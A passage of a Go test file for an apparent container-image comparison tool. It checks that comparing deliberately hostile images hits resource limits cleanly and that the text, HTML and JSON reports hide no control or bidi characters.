				t.Run(dec, func(t *testing.T) { checkHostile(t, c, dec, refA, refB, hostile) })
			}
		})
	}
}

// checkHostile compares the images of c, decompressing with dec, and
// checks the outcome.
func checkHostile(t *testing.T, c hostileCase, dec, refA, refB string, hostile v1.Hash) {
	ctx := t.Context()
	if c.timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, c.timeout)
		defer cancel()
	}
	errHas := c.errHas
	if dec == compare.DecompressIgzip && c.igzipErrHas != nil {
		errHas = c.igzipErrHas
	}
	start := time.Now()
	rep, err := openAndCompare(ctx, refA, refB, compare.Options{Limits: c.limits, Decompressor: dec})
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("took %s", d)
	}

	if err != nil {
		t.Logf("error: %v", err)
	} else {
		t.Logf("verdict %s; changes %q; findings %q", rep.Verdict, allChanges(rep), findingsOf(rep))
	}
	if c.errLimit != "" || len(c.errHas) > 0 {
		if err == nil {
			t.Fatalf("no error; verdict %s, changes %v, findings %v", rep.Verdict, allChanges(rep), findingsOf(rep))
		}
		if c.errLimit != "" {
			var le *compare.LimitError
			if !errors.As(err, &le) {
				t.Fatalf("error %q is not a *compare.LimitError", err)
			}
			if le.Limit != c.errLimit || le.Got <= le.Max {
				t.Errorf("LimitError %s: Got %d, Max %d; want limit %s exceeded", le.Limit, le.Got, le.Max, c.errLimit)
			}
			if !strings.Contains(err.Error(), c.errLimit) {
				t.Errorf("error %q does not name %s", err, c.errLimit)
			}
		}
		for _, s := range errHas {
			if !strings.Contains(err.Error(), s) {
				t.Errorf("error %q does not say %q", err, s)
			}
		}
		if want := "layer 2 " + hostile.String(); c.errLayer /* the second layer, counted from 1 */ && !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not name %s", err, want)
		}
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != c.verdict {
		t.Errorf("verdict = %s, want %s", rep.Verdict, c.verdict)
	}
	p := rep.Platforms[0]
	checkSet(t, "merged-view changes", changeStrings(p.Files), c.files)
	checkSet(t, "layer 1 changes", changeStrings(p.Layers[1].Files), c.layer1)
	if len(p.Layers) > 2 {
		checkSet(t, "layer 2 changes", changeStrings(p.Layers[2].Files), c.layer2)
	}
	if c.layerVerdict != "" && p.Layers[1].Verdict != c.layerVerdict {
		t.Errorf("layer 1 verdict = %s, want %s", p.Layers[1].Verdict, c.layerVerdict)
	}
	checkSet(t, "findings", findingsOf(rep), c.findings)
	checkShown(t, rep, c.shows, c.textShows)
}

// htmlEscaper escapes as html/template does in text.
var htmlEscaper = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;", "+", "&#43;")

// sgr is a colour the text report sets itself.
var sgr = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// checkShown writes rep as text (plain and coloured) and as a page:
// neither holds a control character other than newlines, tabs and the
// text's own colours, nor a C1 or bidi control, nor invalid UTF-8, and
// both show each of shows (the page HTML-escaped), the text each of
// textShows. The JSON stays as encoding/json writes it (C0 controls
// escaped) and reads back as the report, hostile strings and all.
func checkShown(t *testing.T, rep *compare.Report, shows, textShows []string) {
	t.Helper()
	var plain, colour, page bytes.Buffer
	if err := rep.WriteText(&plain, compare.TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := rep.WriteText(&colour, compare.TextOptions{Color: true}); err != nil {
		t.Fatal(err)
	}
	if err := rep.WriteHTML(&page); err != nil {
		t.Fatal(err)
	}
	js, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	for _, out := range []struct{ name, s string }{
		{"text", plain.String()}, {"coloured text", sgr.ReplaceAllString(colour.String(), "")}, {"page", page.String()},
	} {
		if i := texttest.Hidden(out.s); i >= 0 {
			t.Errorf("the %s holds %q: %s", out.name, out.s[i:min(i+4, len(out.s))], texttest.Around(out.s, i))
		}
	}
	// encoding/json escapes C0 controls and bytes not UTF-8, not C1 or
	// bidi controls: the JSON is for programs, which read them back.
	if i := bytes.IndexFunc(js, func(r rune) bool { return r < ' ' || r == 0x7f || r == utf8.RuneError }); i >= 0 {
		t.Errorf("the JSON holds %q at %d", js[i:i+1], i)
	}
	for _, s := range append(slices.Clone(shows), textShows...) {
		if !strings.Contains(plain.String(), s) {
			t.Errorf("the text does not show %q:\n%s", s, text.VisibleLines(plain.String()))
		}
	}
	for _, s := range shows {
		if !strings.Contains(page.String(), htmlEscaper.Replace(s)) {
			t.Errorf("the page does not show %q:\n%s", s, text.VisibleLines(page.String()))
		}
	}
	// encoding/json writes a byte that is not UTF-8 as \ufffd.
	if back, err := compare.ReadReport(js); err != nil || !bytes.Contains(js, []byte(`\ufffd`)) && !reflect.DeepEqual(back, rep) {
		t.Errorf("the JSON reads back as another report (%v)", err)
	}
}

func openAndCompare(ctx context.Context, refA, refB string, o compare.Options) (*compare.Report, error) {
	a, err := image.Open(ctx, refA, image.Options{})
	if err != nil {
		return nil, err
	}
	b, err := image.Open(ctx, refB, image.Options{})
	if err != nil {
		return nil, err
	}
	return compare.Images(ctx, a, b, o)
}

func changeStrings(fs []compare.FileChange) []string {
	var out []string
	for _, f := range fs {
		s := f.Path + " " + f.Change
		if len(f.Aspects) > 0 {
			s += " " + strings.Join(f.Aspects, ",")
		}
		out = append(out, s)
	}
	return out
}

func allChanges(rep *compare.Report) []string {
	var out []string
	for _, p := range rep.Platforms {
		out = append(out, changeStrings(p.Files)...)
		for _, l := range p.Layers {
			for _, s := range changeStrings(l.Files) {
				out = append(out, fmt.Sprintf("layer %d: %s", l.Index, s))
			}
		}
	}
	return out
}

// findingsOf lists the findings of a report: "KIND [PATH]" for the merged
// view's, "layer N: KIND [PATH]" for a layer's.
func findingsOf(rep *compare.Report) []string {
	var out []string
	for _, p := range rep.Platforms {
		for _, f := range p.Findings {
			out = append(out, strings.TrimSpace(f.Kind+" "+f.Path))
		}
		for _, l := range p.Layers {
			for _, f := range l.Findings {
				out = append(out, fmt.Sprintf("layer %d: %s", l.Index, strings.TrimSpace(f.Kind+" "+f.Path)))
			}
		}
	}
	return out
}

// checkSet compares two lists as sets with multiplicity.
func checkSet(t *testing.T, what string, got, want []string) {
	t.Helper()
	g, w := slices.Clone(got), slices.Clone(want)
	slices.Sort(g)
	slices.Sort(w)
	if !slices.Equal(g, w) {
		t.Errorf("%s:\n got  %q\n want %q", what, g, w)
	}
}
